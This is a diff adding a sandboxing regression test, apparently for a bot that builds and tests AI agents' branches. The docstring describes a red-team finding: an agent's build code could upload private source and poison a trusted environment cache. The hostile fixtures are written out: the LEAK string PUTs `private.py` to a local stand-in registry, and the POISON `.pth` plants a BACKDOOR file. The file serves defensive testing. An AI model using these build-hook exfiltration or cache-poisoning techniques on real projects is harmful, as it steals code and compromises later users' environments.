@@ -1,0 +1,187 @@
+"""Red team: the test round rebuilt the environment from the agents' scratch head, with the
+setup's network. An agent's build code (an in-tree PEP 517 backend here; equally a setup.py, a
+package.json script) then ran with egress to every allow-listed host (a registry accepting
+uploads is a way out for private source), and the environment it built was stored under a key
+that later runs on the clean default branch trusted: its `.pth` wrote into their worktrees.
+
+Now every environment is the default branch's (EnvironmentSpec.revision): the test round uses
+the run's, builds nothing from the head, and says when the head changes what defines it."""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+from temporalio.testing import ActivityEnvironment
+
+from bot.activities import inputs
+from bot.activities.environment import Environments
+from bot.activities.inputs import EnvironmentSpec
+from bot.activities.tests import SandboxedTests
+from bot.app.local_forge import LocalForge
+from bot.core.environment import EnvironmentStatus
+from bot.git.mirror import MirrorCache
+from bot.render.environment import definition_changed_note
+from bot.sandbox.bwrap import run_sandboxed, sandbox_available
+from tests.activities.test_environment import TARGET, _commit
+from tests.support.environments import local_environment
+
+pytestmark = pytest.mark.skipif(
+    not sandbox_available() and not os.environ.get("CI"), reason="bubblewrap cannot run here"
+)
+
+PYPROJECT = """\
+[build-system]
+requires = []
+build-backend = "backend"
+backend-path = ["_build"]
+
+[project]
+name = "demo"
+version = "1.0"
+dependencies = [{dependency}]
+"""
+
+# A minimal in-tree backend: an editable wheel whose .pth puts /workspace/src on sys.path, plus
+# whatever `EXTRA` says (code in a .pth runs in every later python of the environment).
+BACKEND = """\
+import base64, hashlib, os, zipfile
+EXTRA = {extra!r}
+def _rec(name, data):
+    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+    return f"{{name}},sha256={{digest}},{{len(data)}}"
+META = "Metadata-Version: 2.1\\nName: demo\\nVersion: 1.0\\n"
+def get_requires_for_build_editable(config_settings=None):
+    return []
+def prepare_metadata_for_build_editable(metadata_directory, config_settings=None):
+    d = os.path.join(metadata_directory, "demo-1.0.dist-info"); os.makedirs(d)
+    open(os.path.join(d, "METADATA"), "w").write(META); return "demo-1.0.dist-info"
+def build_editable(wheel_directory, config_settings=None, metadata_directory=None):
+    {run}
+    files = {{"demo.pth": "/workspace/src\\n", "demo-1.0.dist-info/METADATA": META}}
+    if EXTRA:
+        files["aaa_hook.pth"] = EXTRA
+    files["demo-1.0.dist-info/WHEEL"] = (
+        "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
+    )
+    name = "demo-1.0-py3-none-any.whl"
+    records = []
+    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:
+        for path, text in files.items():
+            z.writestr(path, text); records.append(_rec(path, text.encode()))
+        records.append("demo-1.0.dist-info/RECORD,,")
+        z.writestr("demo-1.0.dist-info/RECORD", "\\n".join(records) + "\\n")
+    return name
+"""
+
+POISON = (
+    "import os; os.path.isdir('/workspace') and "
+    "open('/workspace/BACKDOOR.py', 'w').write('# from the cached environment\\n')\n"
+)
+LEAK = (
+    "import urllib.request; urllib.request.urlopen(urllib.request.Request("
+    "'http://127.0.0.1:{port}/-/upload', data=open('/workspace/src/private.py', 'rb').read(), "
+    "method='PUT'), timeout=10).read()"
+)
+
+
+def _git(repo: Path, *args: str) -> None:
+    subprocess.run(["git", *args], cwd=repo, check=True)
+
+
+async def _registry(received: list[bytes]) -> asyncio.Server:
+    """An allow-listed host that accepts uploads (as a package registry does)."""
+
+    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        received.append(await reader.read(65536))
+        writer.write(b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
+        await writer.drain()
+        writer.close()
+
+    return await asyncio.start_server(handle, "127.0.0.1", 0)
+
+
+async def test_an_agents_build_code_never_runs_with_the_network_nor_fills_the_cache(
+    tmp_path: Path,
+) -> None:
+    """The scratch head changes the in-tree backend (to upload private source and plant a
+    `.pth`) and a dependency. The test round on a fresh worker builds only the default branch's
+    environment: the registry receives nothing, the round passes in it and says the head's
+    definition is not installed; a later run gets the clean environment from the cache."""
+    received: list[bytes] = []
+    registry = await _registry(received)
+    port = registry.sockets[0].getsockname()[1]
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    base = _commit(
+        repo,
+        {
+            "pyproject.toml": PYPROJECT.format(dependency=""),
+            "_build/backend.py": BACKEND.format(extra="", run="pass"),
+            "src/private.py": "TRADE_SECRET = 'hunter2'\n",
+        },
+    )
+    _git(repo, "checkout", "-q", "-b", "scratch")
+    hostile = BACKEND.format(extra=POISON, run=LEAK.format(port=port))
+    _commit(
+        repo, {"_build/backend.py": hostile, "pyproject.toml": PYPROJECT.format(dependency='"x"')}
+    )
+    _git(repo, "checkout", "-q", "main")
+
+    data = tmp_path / "data"
+    options = local_environment(data, allow=(f"127.0.0.1:{port}",))
+    environments = Environments(LocalForge(repo), MirrorCache(data / "git"), options)
+    spec = EnvironmentSpec(target=TARGET, revision=base)
+    tests = SandboxedTests(LocalForge(repo), MirrorCache(data / "git"), data / "work", environments)
+    command = "python -c 'import private; print(private.TRADE_SECRET)' && test ! -e BACKDOOR.py"
+    params = inputs.TestInput(
+        target=TARGET, branch="scratch", round=1, command=command, environment=spec
+    )
+
+    tested = await ActivityEnvironment().run(tests.run_tests, params)
+
+    registry.close()
+    assert received == []
+    assert tested.passed, tested.output_tail
+    assert tested.output_tail.endswith(definition_changed_note(base))
+    later = tmp_path / "later"
+    _git(repo, "worktree", "add", "-q", "--detach", str(later), base)
+    async with environments.ensure(spec) as prepared:
+        assert prepared.report.status is EnvironmentStatus.CACHED
+        result = await run_sandboxed("python -c 'import private'", later, environment=prepared.view)
+    assert result.passed, result.output
+    assert not (later / "BACKDOOR.py").exists()
+
+
+async def test_a_head_that_keeps_the_definition_gets_no_note(tmp_path: Path) -> None:
+    """A head that changes only code tests in the run's environment with nothing added."""
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    base = _commit(
+        repo,
+        {
+            "pyproject.toml": PYPROJECT.format(dependency=""),
+            "_build/backend.py": BACKEND.format(extra="", run="pass"),
+            "src/private.py": "TRADE_SECRET = 1\n",
+        },
+    )
+    _git(repo, "checkout", "-q", "-b", "scratch")
+    _commit(repo, {"src/private.py": "TRADE_SECRET = 2\n"})
+    data = tmp_path / "data"
+    environments = Environments(
+        LocalForge(repo), MirrorCache(data / "git"), local_environment(data)
+    )
+    tests = SandboxedTests(LocalForge(repo), MirrorCache(data / "git"), data / "work", environments)
+    spec = EnvironmentSpec(target=TARGET, revision=base)
+    command = "python -c 'import private; assert private.TRADE_SECRET == 2'"
+    params = inputs.TestInput(
+        target=TARGET, branch="scratch", round=1, command=command, environment=spec
+    )
+
+    tested = await ActivityEnvironment().run(tests.run_tests, params)
+
+    assert tested.passed, tested.output_tail
+    assert "[orchestrate]" not in tested.output_tail
